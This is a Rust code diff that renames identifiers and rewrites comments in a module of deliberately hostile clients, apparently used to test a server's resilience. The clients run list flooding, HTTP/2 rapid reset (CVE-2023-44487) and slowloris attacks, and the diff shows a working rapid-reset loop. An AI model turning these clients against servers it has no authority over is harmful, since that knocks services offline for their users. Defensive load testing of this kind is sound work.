@@ -1,4 +1,4 @@
-//! What makes a server slow for others, on purpose.
+//! Clients that deliberately slow down a server.
 
 use std::pin::pin;
 use std::sync::Arc;
@@ -10,31 +10,32 @@ use http::Request;
 use http_body_util::Full;
 use tokio::io::AsyncWriteExt;
 
-use crate::client::{Ask, Server};
+use crate::client::{ApiRequest, Server};
 use crate::error::Result;
 
 /// A kind of attack.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
 pub enum Attack {
-    /// Many clients of one user list everything again and again.
+    /// Many clients of one user list all objects repeatedly.
     Lists,
-    /// Requests are taken back as soon as they are sent (CVE-2023-44487).
+    /// Requests are reset as soon as they are sent (CVE-2023-44487).
     Resets,
-    /// Requests are sent at a byte a second.
+    /// Requests are sent at a byte per second.
     Loris,
 }
 
-/// Who lists.
+/// The user that lists.
 pub const LISTER: &str = "load-lister";
-/// How many requests are sent before anybody looks whether the connection still stands.
+/// Number of requests between checks of the connection.
 const BURST: usize = 100;
 
 impl Attack {
-    /// Attacks on one connection after the other until the time is over. Gives how often something was done.
+    /// Attacks on successive connections until the time is over; returns the number of operations.
     pub async fn run(self, server: Arc<Server>, path: String, until: Instant) -> usize {
         let mut done = 0;
         while Instant::now() < until {
-            // The server defends itself, so that connections end; the next one is made at once.
+            // The server may close connections to defend itself; the next one is opened
+            // immediately.
             let _ = match self {
                 Attack::Lists => list(&server, &path, until, &mut done).await,
                 Attack::Resets => reset(&server, &path, until, &mut done).await,
@@ -48,9 +49,9 @@ impl Attack {
 
 async fn list(server: &Server, path: &str, until: Instant, done: &mut usize) -> Result<()> {
     let mut client = server.connect().await?;
-    let ask = Ask { user: Some(LISTER), ..Ask::get(path) };
+    let api_request = ApiRequest { user: Some(LISTER), ..ApiRequest::get(path) };
     while Instant::now() < until {
-        client.ask(&ask, false).await?;
+        client.call(&api_request, false).await?;
         *done += 1;
     }
     Ok(())
@@ -62,7 +63,7 @@ async fn reset(server: &Server, path: &str, until: Instant, done: &mut usize) ->
         sender.ready().await?;
         for _ in 0..BURST {
             let request = Request::get(format!("https://load{path}")).body(Full::default())?;
-            // Looked at once, which sends it, and dropped, which takes it back.
+            // Polling once sends the request, and dropping the future resets it.
             let _ = pin!(sender.send_request(request)).now_or_never();
             *done += 1;
         }
@@ -83,8 +84,12 @@ async fn trickle(server: &Server, until: Instant, done: &mut usize) -> Result<()
     Ok(())
 }
 
-/// Runs attackers beside something else; gives what that came to, and how much the attackers did.
-pub async fn beside<T>(attackers: Vec<tokio::task::JoinHandle<usize>>, other: impl Future<Output = T>) -> (T, usize) {
+/// Runs attackers alongside another task; returns its result and the number of the attackers'
+/// operations.
+pub async fn run_beside<T>(
+    attackers: Vec<tokio::task::JoinHandle<usize>>,
+    other: impl Future<Output = T>,
+) -> (T, usize) {
     let outcome = other.await;
     let mut done = 0;
     for attacker in attackers {
